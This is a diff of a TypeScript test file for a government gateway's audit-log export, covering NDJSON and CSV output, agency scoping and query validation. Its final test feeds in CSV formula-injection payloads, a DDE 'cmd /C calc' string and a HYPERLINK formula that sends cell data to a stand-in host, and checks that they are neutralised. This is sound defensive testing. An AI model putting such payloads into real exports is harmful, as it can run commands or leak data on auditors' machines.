@@ -11,6 +11,7 @@ import { recordPages } from '../../gateway/txlog/export-query.js'
 import type { TransactionRecord } from '../../gateway/txlog/record.js'
 
 const PERSON = '030075654294'
+const ENTERPRISE = '/v1/business-registry/enterprises/2627349851'
 
 /** Parses our CSV (RFC 4180 quoting) into rows of cells. */
 function parseCsv (text: string): string[][] {
@@ -24,7 +25,9 @@ function parseCsv (text: string): string[][] {
       if (c === '"' && text[i + 1] === '"') { cell += '"'; i++ } else if (c === '"') quoted = false
       else cell += c
     } else if (c === '"') quoted = true
-    else if (c === ',') { row.push(cell); cell = '' } else if (c === '\r' && text[i + 1] === '\n') { row.push(cell); rows.push(row); row = []; cell = ''; i++ } else cell += c
+    else if (c === ',') { row.push(cell); cell = '' } else if (c === '\r' && text[i + 1] === '\n') {
+      row.push(cell); rows.push(row); row = []; cell = ''; i++
+    } else cell += c
   }
   return rows
 }
@@ -37,7 +40,7 @@ t.test('an export holds every matching record, oldest first, as the listing has 
   await dng(`/v1/population/citizens/${PERSON}?fields=phone`)
   await dng('/v1/population/citizens/999999999999')
   await signedInject(app, 'VN.BHXH', 'GET', `/v1/population/citizens/${PERSON}`, { purpose: 'social-insurance' })
-  await signedInject(app, 'VN.BHXH', 'GET', '/v1/business-registry/enterprises/2627349851', { purpose: 'social-insurance' })
+  await signedInject(app, 'VN.BHXH', 'GET', ENTERPRISE, { purpose: 'social-insurance' })
   const to = new Date(Date.now() + 1).toISOString()
   const audit = (target: string, agency = 'VN.TTCP') => signedInject(app, agency, 'GET', target)
 
@@ -49,7 +52,8 @@ t.test('an export holds every matching record, oldest first, as the listing has 
   t.match(nd.headers['content-disposition'], /^attachment; filename="ndx-audit-\d{8}T\d{6}Z-\d{8}T\d{6}Z\.ndjson"$/)
   t.equal(nd.headers['cache-control'], 'no-store')
   t.ok(nd.body.endsWith('\n'))
-  t.same(nd.body.trimEnd().split('\n').map((l) => JSON.parse(l)), listed, 'NDJSON: the records, byte for byte as listed')
+  t.same(nd.body.trimEnd().split('\n').map((l) => JSON.parse(l)), listed,
+    'NDJSON: the records, byte for byte as listed')
 
   const csv = await audit(`/v1/audit/export?to=${to}&format=csv`)
   t.match(csv.headers['content-type'], /^text\/csv; charset=utf-8; header=present/)
@@ -64,7 +68,8 @@ t.test('an export holds every matching record, oldest first, as the listing has 
 
   const who = await audit(`/v1/audit/export?to=${to}&subject=${PERSON}&format=ndjson`)
   const attempts = who.body.trimEnd().split('\n').map((l) => JSON.parse(l) as TransactionRecord)
-  t.same(attempts.map((r) => [r.client, r.outcome]), [['VN.LOC.DNG', 'ok'], ['VN.LOC.DNG', 'denied'], ['VN.BHXH', 'ok']],
+  t.same(attempts.map((r) => [r.client, r.outcome]),
+    [['VN.LOC.DNG', 'ok'], ['VN.LOC.DNG', 'denied'], ['VN.BHXH', 'ok']],
     'who looked at this person: the refused attempt too')
   t.notMatch(who.body, new RegExp(PERSON), 'the subject is never in the records')
 
@@ -74,7 +79,8 @@ t.test('an export holds every matching record, oldest first, as the listing has 
   t.equal(none.body, CSV_COLUMNS.join(',') + '\r\n', 'nothing matching: the header alone')
   t.equal((await audit(`/v1/audit/export?to=${to}&client=VN.NOBODY`)).body, '', 'nothing matching: empty NDJSON')
 
-  const exports = json(await audit('/v1/audit/transactions?service=audit&operation=export')).items as TransactionRecord[]
+  const exportsListed = await audit('/v1/audit/transactions?service=audit&operation=export')
+  const exports = json(exportsListed).items as TransactionRecord[]
   t.equal(exports.length, 6, 'every export is itself a record (service audit, operation export)')
   t.equal(exports.filter((r) => r.subjectRef !== null).length, 1, 'a subject export is found by that subject too')
 })
@@ -82,7 +88,7 @@ t.test('an export holds every matching record, oldest first, as the listing has 
 t.test('an agency without the auditor role exports only its own records', async (t) => {
   const { app } = await logGateway(t)
   await signedInject(app, 'VN.LOC.DNG', 'GET', '/v1/business-registry/enterprises/2627349851')
-  await signedInject(app, 'VN.BHXH', 'GET', '/v1/business-registry/enterprises/2627349851', { purpose: 'social-insurance' })
+  await signedInject(app, 'VN.BHXH', 'GET', ENTERPRISE, { purpose: 'social-insurance' })
   const mine = await signedInject(app, 'VN.LOC.DNG', 'GET', '/v1/audit/export')
   const clients = mine.body.trimEnd().split('\n').map((l) => (JSON.parse(l) as TransactionRecord).client)
   t.same(clients, ['VN.LOC.DNG'])
@@ -98,7 +104,8 @@ t.test('the export refuses malformed queries with a problem, not a stream', asyn
   t.equal(bad.statusCode, 400)
   t.match(bad.headers['content-type'], /application\/problem\+json/)
   t.match(json(bad), { code: 'request.invalid', errors: [{ name: 'format' }] })
-  t.match(json(await q('/v1/audit/export?limit=10')), { errors: [{ name: 'limit' }] }, 'no limit: an export is everything')
+  t.match(json(await q('/v1/audit/export?limit=10')), { errors: [{ name: 'limit' }] },
+    'no limit: an export is everything')
   t.match(json(await q('/v1/audit/export?from=yesterday')), { errors: [{ name: 'from' }] })
   t.match(json(await q('/v1/audit/export?outcome=great')), { errors: [{ name: 'outcome' }] })
   t.equal((await app.inject({ method: 'GET', url: '/v1/audit/export' })).statusCode, 401, 'unsigned: refused')
@@ -123,7 +130,8 @@ t.test('a log database that does not answer is a 503 problem before any byte of 
 })
 
 t.test('a claimed agency id shaped like a formula cannot run in the auditor\'s spreadsheet', async (t) => {
-  const hostile = { ...record({ purpose: '+cmd|\' /C calc\'!A0' }), claimedClient: '=HYPERLINK("http://x.example/?"&A1,"open")' }
+  const formula = '=HYPERLINK("http://x.example/?"&A1,"open")'
+  const hostile = { ...record({ purpose: '+cmd|\' /C calc\'!A0' }), claimedClient: formula }
   const row = csvRow(hostile as TransactionRecord).trimEnd()
   const cells = parseCsv(row + '\r\n')[0] as string[]
   t.equal(cells[CSV_COLUMNS.indexOf('claimedClient')], '\'=HYPERLINK("http://x.example/?"&A1,"open")')
